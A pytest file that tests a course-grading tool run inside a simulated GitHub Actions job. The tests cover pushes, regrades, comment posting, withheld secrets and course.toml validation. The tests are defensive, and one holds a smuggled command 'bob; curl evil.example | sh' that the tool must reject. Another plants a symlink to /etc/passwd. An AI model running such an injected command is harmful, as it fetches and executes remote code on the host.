"""`grader ci` inside a (faked) GitHub Actions job: a real git repository students push to, the
push event's payload file GitHub writes, a GitHub API on 127.0.0.1, and real gradings."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest
from classroom import (
    ORG_REPO,
    TRAINED,
    UNTRAINED,
    WEEK2_BROKEN,
    Classroom,
    git,
    grader,
    make_course,
    trained,
)
from conftest import REPO
from github_server import GitHubServer

from grader.classroom.spawn import child_environment
from grader.course.course import Course
from grader.course.course_toml import load_course_config
from grader.course.late import LatePolicy
from grader.github.plan import Event, EventError, plan_ci

TOKEN = "ghs_CiJobT0kenSECRETneverInANotebook42"
ALICE_WEEK3 = "<!-- grader-sticky week=week3 student=alice -->"
BOB_WEEK2 = "<!-- grader-sticky week=week2 student=bob -->"


@pytest.fixture
def course(tmp_path):
    return make_course(tmp_path / "course")


@pytest.fixture
def classroom(tmp_path):
    return Classroom(tmp_path / "classroom")


@pytest.fixture
def github():
    with GitHubServer(token=TOKEN) as server:
        server.add_issue(ORG_REPO, 3)
        server.add_issue(ORG_REPO, 4)
        yield server


def actions_env(event, github=None, summary=None, token: str | None = TOKEN, name="push"):
    """The environment GitHub Actions gives a step."""
    env = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_EVENT_NAME": name,
        "GITHUB_REPOSITORY": ORG_REPO,
        "GITHUB_ACTOR": "alice",
        "ACTIONS_RUNTIME_TOKEN": "actions-runtime-SECRET",
    }
    if github is not None:
        env["GITHUB_API_URL"] = github.url
    if summary is not None:
        env["GITHUB_STEP_SUMMARY"] = str(summary)
    if token:
        env["GITHUB_TOKEN"] = token
    return env


def ci(course, checkout, out, synthetic_data, *extra, env):
    return grader(
        "--course",
        course,
        "ci",
        "--checkout",
        checkout,
        "--out",
        out,
        "--data-dir",
        synthetic_data,
        "--device",
        "cpu",
        *extra,
        env=env,
    )


def plan(course, checkout, event, name="push"):
    config = load_course_config(Course(course))
    return plan_ci(config, checkout, Event.read(event, name))


# --- the whole story: a push, its comments, a re-push --------------------------------------


@pytest.mark.slow
def test_push_of_two_notebooks_posts_two_comments_and_a_repush_updates_one(
    course, classroom, github, synthetic_data, tmp_path
):
    classroom.write("submissions/alice/week3.ipynb", *trained())
    classroom.write("submissions/bob/week2.ipynb", *WEEK2_BROKEN, week="week2")
    classroom.write("notes/scratch.ipynb", "print('not a submission')")
    event = classroom.push("alice and bob hand in")
    checkout, out, summary = classroom.checkout(), tmp_path / "out", tmp_path / "summary.md"

    # The template's two steps: grade without a token, then post with one.
    graded = ci(
        course,
        checkout,
        out,
        synthetic_data,
        "--no-post",
        env=actions_env(event, github, summary, token=None),
    )
    assert graded.returncode == 0, graded.stdout + graded.stderr
    assert github.requests == []
    # ...on another machine, with the grader installed without torch or Jupyter.
    env = actions_env(event, github, summary)
    posted = grader("--course", course, "ci-post", out, env=env, light=True)
    assert posted.returncode == 0, posted.stderr

    (alice,) = github.comments(ORG_REPO, 4)
    (bob,) = github.comments(ORG_REPO, 3)
    assert alice["body"].startswith(
        ALICE_WEEK3 + "\n<!-- grader-report week=week3 student=alice -->"
    )
    assert "✅ Week 3" in alice["body"] and "10 / 10 points" in alice["body"]
    assert bob["body"].startswith(BOB_WEEK2 + "\n") and "Cell 2 raised ValueError" in bob["body"]
    manifest = json.loads((out / "ci.json").read_text())
    assert [(i["week"], i["student"], i["outcome"]) for i in manifest["items"]] == [
        ("week2", "bob", "cell_error"),
        ("week3", "alice", "passed"),
    ]
    assert manifest["ignored"] == 1  # notes/scratch.ipynb is no week's submission
    assert {i["clock"] for i in manifest["items"]} == {"push"}  # GitHub's, from the event
    job_summary = summary.read_text()
    assert "| alice | week3 | `submissions/alice/week3.ipynb` | ✅ passed |" in job_summary
    assert "| bob | week2 |" in job_summary and "❌ cell_error" in job_summary
    assert alice["html_url"] in job_summary and bob["html_url"] in job_summary
    assert "2 comments posted with 4 GitHub API calls" in job_summary

    # Alice pushes again: one grading, her comment updated in place, bob's left alone. This
    # time the job holds the token while grading: the notebook still must not see it.
    classroom.write("submissions/alice/week3.ipynb", TRAINED[0], UNTRAINED[0])  # prints os.environ
    event = classroom.push("alice tries something else")
    requests_before = len(github.requests)
    again = ci(
        course,
        classroom.checkout(),
        tmp_path / "out2",
        synthetic_data,
        env=actions_env(event, github, summary),
    )
    assert again.returncode == 0, again.stdout + again.stderr

    (alice_again,) = github.comments(ORG_REPO, 4)
    assert alice_again["id"] == alice["id"] and alice_again["body"] != alice["body"]
    assert "not passed" in alice_again["body"]
    assert github.comments(ORG_REPO, 3) == [bob]
    assert [r.method for r in github.requests[requests_before:]] == ["GET", "PATCH"]
    printed = (tmp_path / "out2" / "week3" / "alice" / "executed.ipynb").read_text()
    assert "'HOME'" in printed  # the notebook printed its environment, and in it:
    assert "GITHUB_" not in printed and "ACTIONS_" not in printed and TOKEN not in printed
    for path in (tmp_path / "out2").rglob("*"):
        assert path.is_dir() or TOKEN not in path.read_text(errors="replace")
    assert TOKEN not in again.stdout + again.stderr


# --- what a push changed -------------------------------------------------------------------


def test_push_without_notebook_changes_grades_and_posts_nothing(
    course, classroom, github, synthetic_data, tmp_path
):
    (classroom.clone / "README.md").write_text("# Deep learning\n\nPush your notebooks here.\n")
    event = classroom.push("docs only")
    summary = tmp_path / "summary.md"

    run = ci(
        course,
        classroom.checkout(),
        tmp_path / "out",
        synthetic_data,
        env=actions_env(event, github, summary),
    )

    assert run.returncode == 0, run.stderr
    assert "0 submission(s)" in run.stdout
    assert github.requests == []
    assert "Nothing to grade: no week's notebook changed." in summary.read_text()


def test_deleted_notebook_withdraws_the_report_without_grading(
    course, classroom, github, synthetic_data, tmp_path
):
    classroom.write("submissions/bob/week2.ipynb", *WEEK2_BROKEN, week="week2")
    classroom.push("bob hands in", actor="bob")
    old = github.add_comment(ORG_REPO, 3, f"{BOB_WEEK2}\nan old report", "github-actions[bot]")
    (classroom.clone / "submissions/bob/week2.ipynb").unlink()
    event = classroom.push("bob takes it back", actor="bob")

    run = ci(
        course,
        classroom.checkout(),
        tmp_path / "out",
        synthetic_data,
        env=actions_env(event, github),
    )

    assert run.returncode == 0, run.stderr
    (comment,) = github.comments(ORG_REPO, 3)
    assert comment["id"] == old["id"]
    assert "no submission" in comment["body"] and "withdrawn" in comment["body"]
    assert not (tmp_path / "out" / "week2" / "bob" / "results.json").exists()


def test_renamed_notebooks_are_graded_where_they_are_now(classroom, course):
    classroom.write("submissions/alice/draft.ipynb", *UNTRAINED)
    classroom.write("submissions/bob/week3.ipynb", *UNTRAINED)
    classroom.push("drafts")
    classroom.clone.joinpath("submissions/alice/draft.ipynb").rename(
        classroom.clone / "submissions/alice/week3.ipynb"
    )
    classroom.clone.joinpath("submissions/bob/week3.ipynb").rename(
        classroom.clone / "submissions/bob/week3-old.ipynb"
    )
    event = classroom.push("rename")

    found = plan(course, classroom.checkout(), event)

    assert found.how.startswith("`git diff")
    assert [(t.folder, t.state, t.paths) for t in found.touched] == [
        ("week3/alice", "grade", ("submissions/alice/week3.ipynb",)),
        ("week3/bob", "withdrawn", ()),
    ]


def test_forced_push_grades_what_the_rewritten_commit_changed(classroom, course):
    classroom.write("submissions/alice/week3.ipynb", *UNTRAINED)
    classroom.write("submissions/bob/week3.ipynb", *UNTRAINED)
    classroom.push("both")
    classroom.write("submissions/alice/week3.ipynb", *trained(5))
    event = classroom.push("alice rewrites history", amend=True)

    found = plan(course, classroom.checkout(), event)  # the old commit is gone from GitHub

    assert "forced push" in found.how
    assert [(t.folder, t.state) for t in found.touched] == [
        ("week3/alice", "grade"),
        ("week3/bob", "grade"),  # the amended commit still adds bob's notebook
    ]


def test_forced_push_back_to_an_older_commit_regrades_the_pushers_submissions(classroom, course):
    classroom.write("submissions/alice/week3.ipynb", *UNTRAINED)
    classroom.write("submissions/bob/week3.ipynb", *UNTRAINED)
    classroom.push("both")
    head = git(classroom.clone, "rev-parse", "HEAD")
    event = classroom.event(
        "push",
        {"before": "f" * 40, "after": head, "forced": True, "deleted": False, "commits": []},
        actor="bob",
    )

    found = plan(course, classroom.checkout(), event)

    assert "no commit listed" in found.how
    assert [t.folder for t in found.touched] == ["week3/bob"]


def test_deleting_a_branch_grades_nothing(classroom, course, tmp_path):
    event = classroom.event(
        "push",
        {
            "ref": "refs/heads/old",
            "before": "a" * 40,
            "after": "0" * 40,
            "deleted": True,
            "commits": [],
        },
    )
    found = plan(course, classroom.checkout(), event)
    assert found.touched == [] and "deleted a branch" in found.how


def test_workflow_dispatch_grades_every_submission_or_the_one_asked_for(classroom, course):
    for login in ("alice", "bob", "carol"):
        classroom.write(f"submissions/{login}/week3.ipynb", *UNTRAINED)
    classroom.write("submissions/bob/week2.ipynb", *WEEK2_BROKEN, week="week2")
    classroom.push("hand in")
    checkout = classroom.checkout()

    everyone = plan(
        course, checkout, classroom.event("dispatch", {"inputs": {}}), "workflow_dispatch"
    )
    only_bob = plan(
        course,
        checkout,
        classroom.event("dispatch", {"inputs": {"student": "bob"}}),
        "workflow_dispatch",
    )

    assert [t.folder for t in everyone.touched] == [
        "week2/bob",
        "week3/alice",
        "week3/bob",
        "week3/carol",
    ]
    assert [t.folder for t in only_bob.touched] == ["week2/bob", "week3/bob"]


def test_a_dispatch_for_a_student_that_is_no_login_is_refused(classroom, course, tmp_path):
    event = classroom.event("dispatch", {"inputs": {"student": "bob; curl evil.example | sh"}})
    with pytest.raises(EventError, match="'bob; curl evil.example | sh' is not a GitHub login"):
        plan(course, tmp_path, event, "workflow_dispatch")


def test_two_notebooks_for_one_week_get_a_notice_instead_of_a_grade(
    tmp_path, synthetic_data, github
):
    course = make_course(
        tmp_path / "course",
        """
[course]
repository = "course-org/deep-learning"
[submissions]
pattern = "week3/*.ipynb"  # one repository per student
student = "actor"
[weeks.week3]
issue = 4
profile = "subset"
""",
    )
    classroom = Classroom(tmp_path / "classroom")
    classroom.write("week3/week3.ipynb", *UNTRAINED)
    classroom.write("week3/week3-copy.ipynb", *UNTRAINED)
    event = classroom.push("two versions", actor="dave")
    github.add_repo("course-org/dave")  # the student's own: the report goes there by default

    run = ci(
        course,
        classroom.checkout(),
        tmp_path / "out",
        synthetic_data,
        env=actions_env(event, github),
    )

    assert run.returncode == 0, run.stderr
    assert github.comments(ORG_REPO, 4) == []
    (issue,) = github.issues("course-org/dave")
    assert issue["title"] == "Week 3: a fully connected network on Fashion-MNIST"
    (comment,) = github.comments("course-org/dave", issue["number"])
    assert comment["body"].startswith("<!-- grader-sticky week=week3 student=dave -->")
    assert "which notebook is your submission?" in comment["body"]
    assert "`week3/week3-copy.ipynb`" in comment["body"]


def test_a_symlinked_notebook_is_never_followed(classroom, course):
    classroom.clone.joinpath("submissions/alice").mkdir(parents=True)
    classroom.clone.joinpath("submissions/alice/week3.ipynb").symlink_to("/etc/passwd")
    event = classroom.push("a link")

    (touched,) = plan(course, classroom.checkout(), event).touched

    assert touched.state == "symlink"


# --- the job's exit status and its errors ---------------------------------------------------


def test_outside_github_actions_ci_is_a_one_line_error(course, tmp_path):
    run = grader("--course", course, "ci", "--checkout", tmp_path)
    assert run.returncode == 2
    assert run.stderr.strip().splitlines() == [
        "grader: error: GITHUB_EVENT_PATH and GITHUB_EVENT_NAME are not set: `grader ci` runs "
        "inside GitHub Actions (or pass --event FILE --event-name push)"
    ]


def test_ci_post_without_a_token_says_how_to_give_one(course, classroom, tmp_path, github):
    out = tmp_path / "out"
    out.mkdir()
    (out / "ci.json").write_text(
        json.dumps(
            {
                "event": "push",
                "commit": "abc",
                "how": "x",
                "ignored": 0,
                "items": [
                    {
                        "week": "week3",
                        "student": "alice",
                        "state": "withdrawn",
                        "paths": [],
                        "folder": "week3/alice",
                    }
                ],
            }
        )
    )
    (out / "week3" / "alice").mkdir(parents=True)
    (out / "week3/alice/comment.md").write_text("<!-- grader-report week=week3 student=alice -->\n")
    run = grader(
        "--course",
        course,
        "ci-post",
        out,
        env={"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": ORG_REPO},
    )
    assert run.returncode == 2
    assert "GITHUB_TOKEN is not set" in run.stderr and "issues: write" in run.stderr


def test_a_comment_md_naming_another_student_is_not_posted(course, tmp_path, github):
    out = tmp_path / "out"
    (out / "week3" / "alice").mkdir(parents=True)
    (out / "ci.json").write_text(
        json.dumps(
            {
                "event": "push",
                "commit": "abc",
                "how": "x",
                "ignored": 0,
                "items": [
                    {
                        "week": "week3",
                        "student": "alice",
                        "state": "grade",
                        "paths": ["a.ipynb"],
                        "folder": "week3/alice",
                        "outcome": "passed",
                    }
                ],
            }
        )
    )
    (out / "week3/alice/comment.md").write_text("<!-- grader-report week=week3 student=bob -->\n")
    run = grader(
        "--course",
        course,
        "ci-post",
        out,
        env={"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": ORG_REPO},
    )
    assert run.returncode == 2
    assert "is not the week3 report of alice; not posting it" in run.stderr
    assert github.comments(ORG_REPO, 4) == []


def test_grading_children_get_no_secret():
    secrets = {
        "GITHUB_TOKEN": "x",
        "ACTIONS_RUNTIME_TOKEN": "x",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "x",
        "AWS_SECRET_ACCESS_KEY": "x",
        "GRADER_POST_TOKEN": "x",
        "GH_TOKEN": "x",
    }
    with pytest.MonkeyPatch.context() as patch:
        for key, value in {**secrets, "PATH": "/usr/bin", "GRADER_CACHE_DIR": "/cache"}.items():
            patch.setenv(key, value)
        env = child_environment({"CUDA_VISIBLE_DEVICES": "1"})
    assert set(secrets).isdisjoint(env)
    assert env["PATH"] == "/usr/bin" and env["GRADER_CACHE_DIR"] == "/cache"
    assert env["CUDA_VISIBLE_DEVICES"] == "1"


# --- course.toml ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        (
            "[weeks.week3]\nissu = 4\n",
            "course.toml line 2: weeks.week3.issu: unknown key; did you mean 'issue'?",
        ),
        (
            '[course]\ntimezone = "Europe/Berlin"\n\n[weeks.week3]\nissue = 4\ndue = "Friday"\n',
            "course.toml line 6: weeks.week3.due: must be a TOML date-time like "
            "2025-11-07T23:59:00+01:00, not 'Friday'",
        ),
        ("[weeks.week9]\nissue = 9\n", "course.toml line 1: weeks.week9: no such week"),
        ('[ci]\ngrader_ref = "main"\n', "course.toml line 2: ci.grader_ref: 'main' is a branch"),
        (
            '[weeks.week3]\nprofile = "huge"\n',
            "course.toml line 2: weeks.week3.profile: week3 has no profile 'huge'",
        ),
        (
            "[late]\npenalty_per_day = 10\n",
            "course.toml line 2: late.penalty_per_day: must be a fraction",
        ),
        (
            '[submissions]\npattern = "../{login}.ipynb"\n',
            "course.toml line 2: submissions.pattern: '../{login}.ipynb' must be a relative path",
        ),
        (
            "[weeks.week3\n",
            "course.toml line 1: not valid TOML: Expected ']' at the end of a table declaration",
        ),
        (
            '[ci]\nreports = "public"\n',
            "course.toml line 2: ci.reports: must be one of",
        ),
        (
            "[budget]\nper_day = 0\n",
            "course.toml line 2: budget.per_day: must be a whole number ≥ 1",
        ),
        (
            '[leaderboard]\nnames = "real"\n',
            "course.toml line 2: leaderboard.names: must be one of",
        ),
        (
            '[ci]\ncourse_secret = "my secret"\n',
            "course.toml line 2: ci.course_secret: must be the name of a repository secret",
        ),
        (
            '[environment]\npackages = ["torch metrics"]\n',
            "course.toml line 2: environment.packages: 'torch metrics' is not a package name",
        ),
    ],
)
def test_a_mistake_in_course_toml_names_the_key_and_the_line(tmp_path, toml, message):
    course = make_course(tmp_path / "course", toml)
    event = tmp_path / "event.json"
    event.write_text("{}")
    run = grader("--course", course, "ci", "--event", event, "--event-name", "push", "--dry-run")
    assert run.returncode == 2
    (line,) = run.stderr.strip().splitlines()
    assert line.startswith("grader: error: ") and message in line.replace(str(course) + "/", "")


def test_the_example_course_toml_is_valid():
    config = load_course_config(Course(REPO))
    assert {w: c.issue for w, c in config.weeks.items()} == {"week2": 3, "week3": 4, "week4": 5}
    assert config.weeks["week3"].due.utcoffset() == timedelta(hours=1)  # Berlin in November
    assert {"torch", "tqdm"} <= set(config.provided_packages)  # the grader's own, and the course's


def test_late_policy_counts_started_days_after_the_grace_period():
    due = datetime(2025, 11, 7, 23, 59, tzinfo=timezone.utc)
    policy = LatePolicy(grace_minutes=15, penalty_per_day=0.1, max_days=7)
    assert policy.apply(due + timedelta(minutes=14), due).days == 0
    assert (
        policy.apply(due + timedelta(minutes=16), due).days,
        policy.apply(due + timedelta(minutes=16), due).penalty,
    ) == (1, 0.1)
    assert policy.apply(due + timedelta(days=3), due).penalty == 0.3
    assert policy.apply(due + timedelta(days=9), due).penalty == 1.0
    assert policy.apply(due - timedelta(days=1), due).late is False
